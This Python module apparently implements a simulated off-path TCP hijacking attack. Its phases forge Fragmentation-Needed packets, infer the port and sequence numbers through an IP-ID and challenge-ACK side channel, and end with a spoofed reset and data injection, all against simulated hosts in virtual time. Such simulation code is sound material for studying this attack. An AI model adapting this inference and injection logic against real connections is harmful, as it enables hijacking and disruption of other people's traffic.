"""The off-path adversary.

The attacker owns a set of addresses, can spoof any source address towards the
server, and sees only the packets routed to its own addresses.  Everything it
learns comes from the IP identification values of the echo replies it
elicits, plus virtual time.

Attack logic is written as generator processes: a process yields the number of
milliseconds it wants to sleep and is resumed by a timer on the event loop.
Operations compose with ``yield from`` and return their result as the
generator's value.
"""

from __future__ import annotations

import enum
import itertools
import math
from collections import deque
from dataclasses import dataclass, field
from typing import Callable, Generator, Iterable, Optional, Sequence

from .netcore import (
    ACK,
    HALF_SEQ_SPACE,
    ICMP,
    MASK16,
    MASK32,
    PSH,
    RST,
    SYN,
    SYNACK,
    TCP,
    EchoReply,
    EchoRequest,
    FragNeeded,
    Host,
    Ipv4Header,
    Packet,
    TcpSegment,
    ip_image,
    ipid_delta,
)

Process = Generator[int, None, object]

PHASES = ("downgrade", "collision", "port", "seq", "window", "exact_seq", "ack", "reset", "inject")

DEFAULT_RCV_WND = 87380
FORGED_MTU = 68


class EmbeddedSource(enum.Enum):
    SYNTHETIC = "SyntheticEchoReply"
    ELICITED = "ElicitedEchoReply"


class AttackFailure(Exception):
    """Raised by a phase that cannot produce its result."""

    def __init__(self, reason: str, detail: str = ""):
        super().__init__(f"{reason}: {detail}" if detail else reason)
        self.reason = reason
        self.detail = detail


@dataclass
class AttackConfig:
    server: int
    server_port: int
    client: int
    addr_pool: Sequence[int]
    probe_rate_pps: int = 300
    scan_rate_pps: int = 584
    port_rate_pps: int = 1000
    port_range: tuple[int, int] = (32768, 61000)
    retry_on_ambiguity: int = 1
    max_window_retries: int = 3
    phase_timeout_ms: dict = field(default_factory=dict)
    default_timeout_ms: int = 600_000
    embedded_source: EmbeddedSource = EmbeddedSource.SYNTHETIC
    port_block: int = 64
    seq_block: int = 97
    seq_stride: int = DEFAULT_RCV_WND
    challenge_interval_ms: int = 500
    jitter_probes: int = 20
    jitter_window_ms: int = 500
    linearize_interval_ms: int = 4
    reply_margin_ms: int = 20
    payload: bytes = b"injected by an off-path attacker\n"

    def __post_init__(self):
        problems = []
        if not self.addr_pool:
            problems.append("addr_pool must not be empty")
        for name in ("probe_rate_pps", "scan_rate_pps", "port_rate_pps"):
            if getattr(self, name) <= 0:
                problems.append(f"{name} must be positive")
        lo, hi = self.port_range
        if not 0 < lo <= hi <= MASK16:
            problems.append("port_range must satisfy 0 < lo <= hi <= 65535")
        if self.port_block < 1 or self.seq_block < 1:
            problems.append("block sizes must be positive")
        if self.port_block + 3 > self.port_rate_pps or self.seq_block + 3 > self.probe_rate_pps:
            problems.append("a probe burst must fit in one second of send budget")
        if not 0 < self.seq_stride < HALF_SEQ_SPACE:
            problems.append("seq_stride must lie in (0, 2**31)")
        spread = 1000 // self.linearize_interval_ms + self.jitter_probes * 1000 // self.jitter_window_ms
        if spread > self.probe_rate_pps:
            problems.append(
                f"jitter windows need {spread} packets/s but probe_rate_pps is {self.probe_rate_pps}"
            )
        if problems:
            raise ValueError("; ".join(problems))

    def timeout(self, phase: str) -> int:
        return self.phase_timeout_ms.get(phase, self.default_timeout_ms)


@dataclass
class IpidObservation:
    """An ordered stream of echo-reply identifiers; ``None`` marks a lost reply."""

    samples: list[tuple[int, Optional[int]]]

    @property
    def complete(self) -> bool:
        return all(ipid is not None for _, ipid in self.samples)

    def _present(self) -> list[tuple[int, int]]:
        return [(i, ipid) for i, (_, ipid) in enumerate(self.samples) if ipid is not None]

    @property
    def gaps(self) -> list[int]:
        """Sample positions whose identifier jumped by more than the sample count.

        The first difference in a stream absorbs however far the counter moved
        while idle, so it is never reported.
        """
        present = self._present()
        return [j for (i, a), (j, b) in zip(present[1:], present[2:]) if ipid_delta(b, a) - (j - i) >= 1]

    def extra(self) -> Optional[int]:
        """Increments beyond our own probes, or None with fewer than three replies."""
        present = self._present()
        if len(present) < 3:
            return None
        return sum(ipid_delta(b, a) - (j - i) for (i, a), (j, b) in zip(present[1:], present[2:]))


@dataclass
class PhaseResult:
    name: str
    virtual_ms: int
    packets_sent: int
    outcome: str
    inferred_value: object = None


@dataclass
class AttackReport:
    phases: list[PhaseResult] = field(default_factory=list)
    failure_phase: Optional[str] = None
    failure_reason: Optional[str] = None
    start_ms: int = 0
    end_ms: int = 0

    @property
    def overall(self) -> str:
        return "Success" if self.failure_reason is None else "Failure"

    def phase(self, name: str) -> Optional[PhaseResult]:
        for result in self.phases:
            if result.name == name:
                return result
        return None


class SendBudget:
    """Keeps every 1 s window at or below a packet-rate ceiling."""

    def __init__(self, window_ms: int = 1000):
        self.window_ms = window_ms
        self.log: deque = deque()
        self.total = 0
        self.last_time: Optional[int] = None
        self.last_n = 0

    def _expire(self, now: int) -> None:
        log = self.log
        while log and log[0][0] <= now - self.window_ms:
            self.total -= log.popleft()[1]

    def earliest(self, now: int, n: int, rate: int) -> int:
        """First time at or after ``now`` when ``n`` more packets keep every window within ``rate``."""
        if n > rate:
            raise ValueError(f"burst of {n} exceeds {rate} packets per window")
        self._expire(now)
        t = now
        if self.last_time is not None:
            t = max(t, self.last_time + math.ceil(self.last_n * self.window_ms / rate))
        if self.total + n <= rate:
            return t
        # drop the oldest sends until the burst fits; it may go once they age out
        excess = self.total + n - rate
        for when, k in self.log:
            excess -= k
            if excess <= 0:
                return max(t, when + self.window_ms)
        return t

    def spend(self, now: int, n: int) -> None:
        self._expire(now)
        log = self.log
        if log and log[-1][0] == now:
            log[-1] = (now, log[-1][1] + n)
        else:
            log.append((now, n))
        self.total += n
        self.last_n = self.last_n + n if self.last_time == now else n
        self.last_time = now


@dataclass
class _Burst:
    keys: list[int]
    sent_at: int
    deadline: int
    tag: object = None


class AttackerHost(Host):
    def __init__(self, host_id: str, cfg: AttackConfig, rng, primary: Optional[int] = None):
        pool = cfg.addr_pool
        super().__init__(host_id, [primary if primary is not None else pool[0]])
        self.cfg = cfg
        self.rng = rng
        self.primary = primary if primary is not None else pool[0]
        self.replies: dict[int, int] = {}
        self.budget = SendBudget()
        self.send_log: Optional[list[tuple[int, int, str]]] = None
        self.rate = cfg.probe_rate_pps
        self.phase_name = "idle"
        self.rtt_ms: Optional[int] = None
        self.report = AttackReport()
        self.result = None
        self.done = False
        self.stats = {"ambiguous": 0, "retries": 0}
        self._keys = itertools.count(1)
        self._ipid = rng.randrange(MASK16 + 1)
        self._process: Optional[Process] = None
        self._last_challenge_ms: Optional[int] = None

    # process plumbing --------------------------------------------------------

    def start(self, process: Process, at: Optional[int] = None) -> None:
        self._process = process
        self.done = False
        self.sim.set_timer(self.host_id, self.sim.now if at is None else at, "resume")

    def on_timer(self, token) -> None:
        if token != "resume" or self._process is None:
            return
        try:
            delay = next(self._process)
        except StopIteration as stop:
            self.result = stop.value
            self.done = True
            self._process = None
            return
        self.sim.set_timer(self.host_id, self.sim.now + max(0, int(delay)), "resume")

    def execute(self, process: Process, until: Optional[int] = None):
        """Run ``process`` to completion on the attached network and return its value."""
        self.start(process)
        self.sim.run(until=until, stop_when=lambda: self.done)
        if not self.done:
            raise RuntimeError("attacker process did not finish")
        return self.result

    def on_packet(self, pkt: Packet) -> None:
        body = pkt.body
        if type(body) is EchoReply and pkt.ip.src == self.cfg.server:
            self.replies[(body.ident << 16) | body.seqno] = pkt.ip.ipid

    # sending -------------------------------------------------------------------

    def _own_ipid(self) -> int:
        value = self._ipid
        self._ipid = (value + 1) & MASK16
        return value

    def _record_send(self, n: int) -> None:
        self.budget.spend(self.sim.now, n)
        if self.send_log is not None:
            self.send_log.append((self.sim.now, n, self.phase_name))

    def pace(self, n: int) -> Process:
        """Sleep until ``n`` more packets fit within the current rate."""
        now = self.sim.now
        when = self.budget.earliest(now, n, self.rate)
        if when > now:
            yield when - now

    def echo_request(self, src: int) -> tuple[int, Packet]:
        key = next(self._keys) & 0xFFFFFFFF
        msg = EchoRequest(key >> 16, key & MASK16)
        return key, Packet(Ipv4Header(src, self.cfg.server, self._own_ipid(), False, ICMP, 28), msg)

    def spoofed_tcp(self, seg: TcpSegment, src: Optional[int] = None) -> Packet:
        src = self.cfg.client if src is None else src
        return Packet(Ipv4Header(src, self.cfg.server, self._own_ipid(), True, TCP, 40 + len(seg.payload)), seg)

    def burst(self, addr: int, triggers: Sequence[Packet], tag=None) -> _Burst:
        """Send e0, e1, triggers, e2 in the same millisecond."""
        keys = []
        send = self.send
        for _ in range(2):
            key, pkt = self.echo_request(addr)
            keys.append(key)
            send(pkt)
        for pkt in triggers:
            send(pkt)
        key, pkt = self.echo_request(addr)
        keys.append(key)
        send(pkt)
        self._record_send(len(triggers) + 3)
        now = self.sim.now
        return _Burst(keys, now, now + self.reply_wait(), tag)

    def collect(self, burst: _Burst) -> IpidObservation:
        replies = self.replies
        return IpidObservation([(burst.sent_at, replies.pop(key, None)) for key in burst.keys])

    def reply_wait(self) -> int:
        rtt = self.rtt_ms if self.rtt_ms is not None else 400
        return rtt + self.cfg.reply_margin_ms

    def measure_rtt(self, tries: int = 5) -> Process:
        """Time echo replies from the server; the slowest of them sets the wait."""
        sent = []
        for _ in range(tries):
            key, pkt = self.echo_request(self.primary)
            self.send(pkt)
            sent.append((key, self.sim.now))
            self._record_send(1)
            waited = 0
            while key not in self.replies and waited < 2000:
                yield 1
                waited += 1
            if key in self.replies:
                self.replies.pop(key)
                rtt = self.sim.now - sent[-1][1]
                self.rtt_ms = rtt if self.rtt_ms is None else max(self.rtt_ms, rtt)
        if self.rtt_ms is None:
            raise AttackFailure("Timeout", "server never answered an echo request")
        return self.rtt_ms

    # rate limit bookkeeping ----------------------------------------------------

    def challenge_ready(self) -> Process:
        """Wait until a fresh challenge ACK cannot be suppressed by the last one."""
        last = self._last_challenge_ms
        if last is not None:
            ready = last + self.cfg.challenge_interval_ms
            if ready > self.sim.now:
                yield ready - self.sim.now

    def note_challenge(self, sent_at: int) -> None:
        if self._last_challenge_ms is None or sent_at > self._last_challenge_ms:
            self._last_challenge_ms = sent_at

    def _check_deadline(self, started: int, phase: str) -> None:
        if self.sim.now - started > self.cfg.timeout(phase):
            raise AttackFailure("Timeout", f"{phase} exceeded {self.cfg.timeout(phase)} ms")

    # probing primitives --------------------------------------------------------

    def probe(self, addr: int, build: Callable[[], Sequence[Packet]], phase: str, challenge: bool) -> Process:
        """One burst with retries on lost replies; returns the extra increment count.

        ``challenge`` marks probes whose positive signal is a rate-limited
        challenge ACK, so the burst waits out the limiter first and a lost
        reply is treated as if a challenge might have been spent.
        """
        for attempt in range(self.cfg.max_window_retries + 1):
            if challenge:
                yield from self.challenge_ready()
            triggers = build()
            yield from self.pace(len(triggers) + 3)
            b = self.burst(addr, triggers)
            yield b.deadline - self.sim.now
            extra = self.collect(b).extra()
            if extra is not None:
                if challenge and extra >= 1:
                    self.note_challenge(b.sent_at)
                return extra
            self.stats["ambiguous"] += 1
            if challenge:
                self.note_challenge(b.sent_at)
            if attempt < self.cfg.max_window_retries:
                self.stats["retries"] += 1
        raise AttackFailure("Ambiguous", f"{phase}: replies lost on every retry")

    def scan(
        self,
        count: int,
        burst_for: Callable[[int], tuple[int, Sequence[Packet]]],
        phase: str,
        challenge: bool,
        start: int = 0,
    ) -> Process:
        """Pipelined sweep over ``count`` bursts; returns the first confirmed positive.

        Bursts go out back to back under the send budget while earlier ones
        are still in flight.  A positive stops the sweep; once the in-flight
        bursts have been read, the lowest positive index is put to a vote
        (see ``_vote``); a rejected index is never revisited.
        """
        cfg = self.cfg
        started = self.sim.now
        pending: deque[_Burst] = deque()
        retry: deque[int] = deque()
        tries: dict[int, int] = {}
        positives: list[int] = []
        rejected: set[int] = set()
        nxt = start
        staged = None
        while True:
            self._check_deadline(started, phase)
            while pending and pending[0].deadline <= self.sim.now:
                b = pending.popleft()
                extra = self.collect(b).extra()
                if extra is None:
                    self.stats["ambiguous"] += 1
                    if challenge:
                        self.note_challenge(b.sent_at)
                    if tries.get(b.tag, 0) < cfg.max_window_retries:
                        tries[b.tag] = tries.get(b.tag, 0) + 1
                        self.stats["retries"] += 1
                        retry.append(b.tag)
                elif extra >= 1 and b.tag not in rejected:
                    if challenge:
                        self.note_challenge(b.sent_at)
                    positives.append(b.tag)
            if positives:
                if pending:
                    yield max(0, pending[0].deadline - self.sim.now)
                    continue
                idx = min(positives)
                positives.remove(idx)
                if (yield from self._confirm(idx, burst_for, phase, challenge)):
                    return idx
                rejected.add(idx)
                continue
            if staged is None and (retry or nxt < count):
                if retry:
                    idx = retry.popleft()
                    if challenge:
                        yield from self.challenge_ready()
                else:
                    idx = nxt
                    nxt += 1
                staged = (idx, *burst_for(idx))
            if staged is not None:
                idx, addr, triggers = staged
                now = self.sim.now
                when = self.budget.earliest(now, len(triggers) + 3, self.rate)
                if when > now:
                    if pending and pending[0].deadline < when:
                        yield pending[0].deadline - now
                    else:
                        yield when - now
                    continue
                pending.append(self.burst(addr, triggers, tag=idx))
                staged = None
                continue
            if not pending:
                return None
            yield max(0, pending[0].deadline - self.sim.now)

    def _vote(self, addr: int, build: Callable[[], Sequence[Packet]], phase: str, challenge: bool) -> Process:
        """Re-probe a positive until ``retry_on_ambiguity + 1`` probes agree either way.

        The first positive counts as one vote, so with the default of one
        retry a disagreement is settled by a third probe.
        """
        need = self.cfg.retry_on_ambiguity + 1
        yes, no = 1, 0
        while yes < need and no < need:
            extra = yield from self.probe(addr, build, phase, challenge)
            if extra >= 1:
                yes += 1
            else:
                no += 1
        return yes >= need

    def _confirm(self, idx: int, burst_for, phase: str, challenge: bool) -> Process:
        addr, _ = burst_for(idx)
        return (yield from self._vote(addr, lambda: burst_for(idx)[1], phase, challenge))

    def bisect(self, addr: int, candidates: list, build: Callable[[list], Sequence[Packet]], phase: str) -> Process:
        """Narrow a positive block to one candidate, then check that one alone.

        A single lost trigger sends the search down the wrong half, so a final
        candidate that does not reproduce is checked again and, failing that,
        the whole block is searched again.
        """
        block = candidates
        for _ in range(self.cfg.max_window_retries + 1):
            candidates = block
            while len(candidates) > 1:
                half = candidates[: len(candidates) // 2]
                extra = yield from self.probe(addr, lambda: build(half), phase, True)
                candidates = half if extra >= 1 else candidates[len(half) :]
            for _ in range(2):
                extra = yield from self.probe(addr, lambda: build(candidates), phase, True)
                if extra >= 1:
                    return candidates[0]
            self.stats["retries"] += 1
        raise AttackFailure("Ambiguous", f"{phase}: no candidate in the positive block reproduced")

    # phase 1: downgrade -------------------------------------------------------

    def forge_frag_needed(self, client: int, ident: int = 0, seqno: int = 0) -> Packet:
        """A Fragmentation-Needed with MTU 68 quoting an echo reply from server to client."""
        server = self.cfg.server
        quoted = Packet(Ipv4Header(server, client, 0, False, ICMP, 28), EchoReply(ident, seqno))
        msg = FragNeeded(FORGED_MTU, ip_image(quoted, 28))
        return Packet(Ipv4Header(self.primary, server, self._own_ipid(), False, ICMP, 56), msg)

    def downgrade(self, client: Optional[int] = None, source: Optional[EmbeddedSource] = None) -> Process:
        client = self.cfg.client if client is None else client
        source = self.cfg.embedded_source if source is None else source
        ident = seqno = 0
        if source is EmbeddedSource.ELICITED:
            key = next(self._keys) & 0xFFFFFFFF
            ident, seqno = key >> 16, key & MASK16
            request = Packet(Ipv4Header(client, self.cfg.server, self._own_ipid(), False, ICMP, 28), EchoRequest(ident, seqno))
            yield from self.pace(1)
            self.send(request)
            self._record_send(1)
            yield self.reply_wait()
        yield from self.pace(1)
        self.send(self.forge_frag_needed(client, ident, seqno))
        self._record_send(1)
        yield self.reply_wait()
        return client

    # phase 2: hash collisions -------------------------------------------------

    def _syn(self, client: int) -> Packet:
        sport = self.rng.randint(1024, MASK16)
        seg = TcpSegment(sport, self.cfg.server_port, self.rng.getrandbits(32), 0, SYN)
        return self.spoofed_tcp(seg, client)

    def observe_linearized(self, addr: int, n_probes: int, rate: int, inject: Optional[dict] = None) -> Process:
        """Echo requests at ``rate`` per second from ``addr``.

        ``inject`` maps a probe index to packets sent just before that probe.
        """
        inject = inject or {}
        keys = []
        start = self.sim.now
        for i in range(n_probes):
            due = start + (i * 1000) // rate
            if due > self.sim.now:
                yield due - self.sim.now
            for pkt in inject.get(i, ()):
                self.send(pkt)
                self._record_send(1)
            key, pkt = self.echo_request(addr)
            keys.append((key, self.sim.now))
            self.send(pkt)
            self._record_send(1)
        yield self.reply_wait()
        return IpidObservation([(t, self.replies.pop(k, None)) for k, t in keys])

    def detect_collision(self, addr: int, client: Optional[int] = None) -> Process:
        client = self.cfg.client if client is None else client
        build = lambda: [self._syn(client)]
        extra = yield from self.probe(addr, build, "collision", False)
        if extra < 1:
            return False
        return (yield from self._vote(addr, build, "collision", False))

    def find_colliding_address(self, pool: Optional[Sequence[int]] = None, client: Optional[int] = None) -> Process:
        """First pool address sharing the client's counter, as (address, trials)."""
        pool = self.cfg.addr_pool if pool is None else pool
        client = self.cfg.client if client is None else client
        idx = yield from self.scan(len(pool), lambda i: (pool[i], [self._syn(client)]), "collision", False)
        if idx is None:
            return None, len(pool)
        return pool[idx], idx + 1

    def enumerate_victim_clients(self, candidates: Sequence[int], time_limit_ms: int) -> Process:
        """Addresses whose TCP counter collides with the primary address's ICMP counter."""
        addr = self.primary
        found = []
        deadline = self.sim.now + time_limit_ms
        start = 0

        def burst_for(i):
            client = candidates[i]
            return addr, [self.forge_frag_needed(client), self._syn(client)]

        while start < len(candidates) and self.sim.now < deadline:
            idx = yield from self.scan(len(candidates), burst_for, "collision", False, start=start)
            if idx is None:
                break
            if self.sim.now <= deadline:
                found.append(candidates[idx])
            start = idx + 1
        return found

    # phase 3: connection port ---------------------------------------------------

    def _synack(self, port: int) -> Packet:
        seg = TcpSegment(port, self.cfg.server_port, self.rng.getrandbits(32), self.rng.getrandbits(32), SYNACK)
        return self.spoofed_tcp(seg)

    def detect_connection_port(self, addr: int, port_range: Optional[tuple[int, int]] = None) -> Process:
        lo, hi = port_range or self.cfg.port_range
        ports = list(range(lo, hi + 1))
        size = self.cfg.port_block
        blocks = [ports[i : i + size] for i in range(0, len(ports), size)]
        build = lambda block: [self._synack(p) for p in block]
        idx = yield from self.scan(len(blocks), lambda i: (addr, build(blocks[i])), "port", True)
        if idx is None:
            return None
        return (yield from self.bisect(addr, blocks[idx], build, "port"))

    # phase 4: an acceptable sequence number ------------------------------------

    def _rst(self, port: int, seq: int) -> Packet:
        return self.spoofed_tcp(TcpSegment(port, self.cfg.server_port, seq & MASK32, 0, RST, 0))

    def seq_candidates(self) -> list[int]:
        stride = self.cfg.seq_stride
        return list(range(0, 1 << 32, stride))

    def infer_acceptable_seq(self, addr: int, port: int) -> Process:
        candidates = self.seq_candidates()
        size = self.cfg.seq_block
        blocks = [candidates[i : i + size] for i in range(0, len(candidates), size)]
        build = lambda block: [self._rst(port, s) for s in block]
        idx = yield from self.scan(len(blocks), lambda i: (addr, build(blocks[i])), "seq", True)
        if idx is None:
            raise AttackFailure("Ambiguous", "no sequence block drew a challenge ACK")
        return (yield from self.bisect(addr, blocks[idx], build, "seq"))

    # phase 5: inside the challenge-ACK window ----------------------------------

    def _ack(self, port: int, seq: int, ack: int, payload: bytes = b"") -> Packet:
        flags = ACK | PSH if payload else ACK
        return self.spoofed_tcp(TcpSegment(port, self.cfg.server_port, seq & MASK32, ack & MASK32, flags, 65535, payload))

    def locate_challenge_window(self, addr: int, port: int, seq_acceptable: int) -> Process:
        for k in range(4):
            ack = k << 30
            extra = yield from self.probe(addr, lambda: [self._ack(port, seq_acceptable, ack)], "window", True)
            if extra >= 1:
                return ack
        raise AttackFailure("Ambiguous", "no quarter of the ACK space drew a challenge ACK")

    # phase 6: exact rcv_nxt from duplicate-ACK jitter ----------------------------

    def measure_jitter(
        self,
        addr: int,
        port: int,
        seq: int,
        ack: int,
        windows: int = 1,
        probes: Optional[int] = None,
        window_ms: Optional[int] = None,
    ) -> Process:
        """Extra counter increments in each of ``windows`` back-to-back windows.

        Echo requests go out every ``linearize_interval_ms`` so the shared
        counter advances by exactly one per echo; spoofed ACKs are spread
        evenly across each window.
        """
        cfg = self.cfg
        probes = cfg.jitter_probes if probes is None else probes
        window_ms = cfg.jitter_window_ms if window_ms is None else window_ms
        step = cfg.linearize_interval_ms
        per_window = window_ms // step
        start = self.sim.now
        # a lead-in echo so each window's first difference (which extra() discards) holds no probe
        plan = [(start, "echo", -1)]
        for w in range(windows):
            base = start + step + w * window_ms
            for i in range(per_window + 1 if w == windows - 1 else per_window):
                plan.append((base + i * step, "echo", w))
            for i in range(probes):
                plan.append((base + (i * window_ms) // probes + step // 2, "ack", w))
        plan.sort(key=lambda item: (item[0], item[1] == "echo"))
        echoes: list[tuple[int, int, int]] = []
        for when, kind, w in plan:
            if when > self.sim.now:
                yield when - self.sim.now
            if kind == "echo":
                key, pkt = self.echo_request(addr)
                echoes.append((key, when, w))
            else:
                pkt = self._ack(port, seq, ack)
            self.send(pkt)
            self._record_send(1)
        yield self.reply_wait()
        samples = [(t, w, self.replies.pop(k, None)) for k, t, w in echoes]
        # window w spans the echo before it, its own echoes and the first echo of window w+1
        results = []
        for w in range(windows):
            idx = [i for i, (_, ww, _) in enumerate(samples) if ww == w]
            idx.insert(0, idx[0] - 1)
            if w < windows - 1:
                idx.append(idx[-1] + 1)
            obs = IpidObservation([(samples[i][0], samples[i][2]) for i in idx])
            results.append(obs.extra())
        return results

    def _jitter_below(self, addr: int, port: int, seq: int, ack: int) -> Process:
        threshold = max(2, self.cfg.jitter_probes // 2)
        for _ in range(self.cfg.max_window_retries + 1):
            (extra,) = yield from self.measure_jitter(addr, port, seq, ack)
            if extra is not None:
                if extra < threshold:
                    self.note_challenge(self.sim.now)
                return extra >= threshold
            self.stats["ambiguous"] += 1
        raise AttackFailure("Ambiguous", "exact_seq: jitter window replies lost")

    def detect_exact_seq(self, addr: int, port: int, seq_acceptable: int, ack_challenge: int) -> Process:
        stride = self.cfg.seq_stride
        lo = (seq_acceptable - stride - 1) & MASK32
        below = yield from self._jitter_below(addr, port, lo, ack_challenge)
        if not below:
            raise AttackFailure("NoJitter", "bracket start never produced duplicate ACKs")
        span = stride + 1  # hi = lo + span is seq_acceptable, known in-window
        low, high = 0, span
        while high - low > 1:
            mid = (low + high) // 2
            below = yield from self._jitter_below(addr, port, lo + mid, ack_challenge)
            if below:
                low = mid
            else:
                high = mid
        return (lo + high) & MASK32

    # phase 7: SND.UNA from the lower edge of the challenge window -----------------

    def detect_acceptable_ack(self, addr: int, port: int, rcv_nxt: int, ack_challenge: int) -> Process:
        """Largest d with ack_challenge - d still drawing a challenge ACK; returns SND.UNA."""
        low, high = 0, HALF_SEQ_SPACE
        while high - low > 1:
            mid = (low + high) // 2
            ack = (ack_challenge - mid) & MASK32
            extra = yield from self.probe(addr, lambda: [self._ack(port, rcv_nxt, ack)], "ack", True)
            if extra >= 1:
                low = mid
            else:
                high = mid
        if low == 0:
            extra = yield from self.probe(addr, lambda: [self._ack(port, rcv_nxt, ack_challenge)], "ack", True)
            if extra < 1:
                raise AttackFailure("NoBoundary", "the starting ACK no longer draws a challenge ACK")
        boundary = (ack_challenge - low - 1) & MASK32
        return (boundary + HALF_SEQ_SPACE) & MASK32

    # phase 8: act on the inferred state -----------------------------------------

    def execute_reset(self, port: int, rcv_nxt: int) -> Process:
        yield from self.pace(1)
        self.send(self._rst(port, rcv_nxt))
        self._record_send(1)
        yield self.reply_wait()
        return rcv_nxt

    def execute_injection(self, port: int, rcv_nxt: int, snd_una: int, payload: Optional[bytes] = None) -> Process:
        payload = self.cfg.payload if payload is None else payload
        yield from self.pace(1)
        self.send(self._ack(port, rcv_nxt, snd_una, payload))
        self._record_send(1)
        yield self.reply_wait()
        return len(payload)

    # pipeline ----------------------------------------------------------------------

    def phase(self, name: str, body: Process) -> Process:
        """Run one phase, recording its time, packets and result in the report."""
        rates = {"collision": self.cfg.scan_rate_pps, "port": self.cfg.port_rate_pps}
        self.phase_name = name
        self.rate = rates.get(name, self.cfg.probe_rate_pps)
        start = self.sim.now
        sent_before = self.sim.sent[self.host_id]
        try:
            if self.rtt_ms is None:
                yield from self.measure_rtt()
            value = yield from body
        except AttackFailure as exc:
            self._close_phase(name, start, sent_before, "Failure", None)
            self.report.failure_phase = name
            self.report.failure_reason = exc.reason
            self.note(f"{name} failed: {exc}")
            raise
        self._close_phase(name, start, sent_before, "Success", value)
        return value

    def _close_phase(self, name, start, sent_before, outcome, value) -> None:
        self.report.phases.append(
            PhaseResult(name, self.sim.now - start, self.sim.sent[self.host_id] - sent_before, outcome, value)
        )

    def pipeline(self, phases: Iterable[str], given: Optional[dict] = None) -> Process:
        """Run the named phases in order; values missing from ``given`` are inferred.

        The generator value is a dict of everything known at the end.
        """
        known = dict(given or {})
        self.report = AttackReport(start_ms=self.sim.now)
        wanted = list(phases)
        try:
            for name in wanted:
                value = yield from self.phase(name, self._phase_body(name, known))
                known[name] = value
        except AttackFailure:
            pass
        self.report.end_ms = self.sim.now
        return known

    def _phase_body(self, name: str, known: dict) -> Process:
        if name == "downgrade":
            return self.downgrade()
        if name == "collision":
            return self._collision_phase(known)
        addr = known.get("collision")
        if name == "port":
            return self._port_phase(addr)
        port = known.get("port")
        if name == "seq":
            return self.infer_acceptable_seq(addr, port)
        if name == "window":
            return self.locate_challenge_window(addr, port, known["seq"])
        if name == "exact_seq":
            return self.detect_exact_seq(addr, port, known["seq"], known["window"])
        if name == "ack":
            return self.detect_acceptable_ack(addr, port, known["exact_seq"], known["window"])
        if name == "reset":
            return self.execute_reset(port, known["exact_seq"])
        if name == "inject":
            return self.execute_injection(port, known["exact_seq"], known["ack"])
        raise ValueError(f"unknown phase {name!r}")

    def _collision_phase(self, known: dict) -> Process:
        addr, trials = yield from self.find_colliding_address()
        known["collision_trials"] = trials
        if addr is None:
            raise AttackFailure("NoCollision", f"none of {trials} addresses collided")
        return addr

    def _port_phase(self, addr: int) -> Process:
        port = yield from self.detect_connection_port(addr)
        if port is None:
            raise AttackFailure("NoConnection", "no port drew a challenge ACK")
        return port
